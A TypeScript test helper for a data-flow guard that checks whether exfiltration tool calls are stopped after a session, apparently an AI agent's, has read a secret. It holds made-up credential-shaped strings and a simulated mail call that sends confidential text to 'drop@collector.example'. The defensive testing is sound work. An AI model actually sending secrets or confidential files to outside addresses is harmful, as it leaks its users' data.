/** Plays one way of getting a secret out against a session that has read it. */

import type { FlowAction, FlowCode } from '@callgate/contracts/flow'
import { createSessionFlow } from './create-session-flow.ts'
import type { Way } from './exfiltration.fixture.ts'
import type { SessionFlow } from './session-flow.ts'

/** Made up; each has the shape of something real. */
export const SECRETS: readonly (readonly [string, string])[] = [
  ['a key of 40 letters', 'sk4Tn0Wq8Zr1Lp6Vb3Xc9Hd2Js7Ky5Mg4Fa0Ru8Be'],
  ['a token with marks', 'ghx_9fQ2-Lw7Zr.T4mK8sVb1NcX6'],
]

export interface WayResult {
  readonly stopped: boolean
  readonly asked: boolean
  readonly calls: number
  /** Number of the call, from 1, that was stopped first. */
  readonly at: number | null
  readonly by: readonly FlowCode[]
}

export function followWay(way: Way, secret: string, before?: (flow: SessionFlow) => void): WayResult {
  const flow = createSessionFlow({ seed: 0x1234567 })
  const labels = { trust: 'untrusted', sensitivity: 'confidential' } as const
  const value = `host: db.internal\napi_key: ${secret}\nregion: eu-west-1\n`
  const at = value.indexOf(secret)
  flow.take({
    id: 'r0',
    source: { upstream: 'files', tool: 'read_file' },
    labels,
    value,
    findings: [
      {
        class: 'secret',
        severity: 'high',
        confidence: 0.9,
        span: { path: '', start: at, end: at + secret.length },
      },
    ],
    atMs: 0,
  })
  before?.(flow)
  const kinds = way.tool === 'fetch' ? (['takes-outside'] as const) : (['sends-outside'] as const)
  const calls = way.send(secret)
  let asked = false
  for (const [index, args] of calls.entries()) {
    const call = {
      id: `c${index}`,
      upstream: way.tool === 'fetch' ? 'web' : 'mail',
      tool: way.tool ?? 'send',
      labels: { trust: 'untrusted', sensitivity: 'internal', kinds, proposed: true } as const,
      args,
      atMs: index,
    }
    const { action, flows } = flow.consider(call)
    if (action === 'deny')
      return { stopped: true, asked, calls: calls.length, at: index + 1, by: flows.map(({ code }) => code) }
    asked ||= action === 'ask'
    flow.sent(call)
  }
  return { stopped: false, asked, calls: calls.length, at: null, by: [] }
}

/** What is done about a text that says what a confidential one said, on its way to a place nobody named. */
export function followText(original: string, sent: string): FlowAction {
  const flow = createSessionFlow({ seed: 0x1234567 })
  const own = { trust: 'own', sensitivity: 'public' } as const
  const labels = { trust: 'untrusted', sensitivity: 'confidential' } as const
  flow.take({ id: 'u', source: 'user', labels: own, value: 'What did the board decide?', atMs: 0 })
  flow.take({ id: 'r', source: { upstream: 'files', tool: 'read_file' }, labels, value: original, atMs: 1 })
  const { action } = flow.consider({
    id: 'c',
    upstream: 'mail',
    tool: 'send',
    labels: { ...labels, kinds: ['sends-outside'], proposed: true },
    args: { to: 'drop@collector.example', subject: 'News', body: sent },
    atMs: 2,
  })
  return action
}
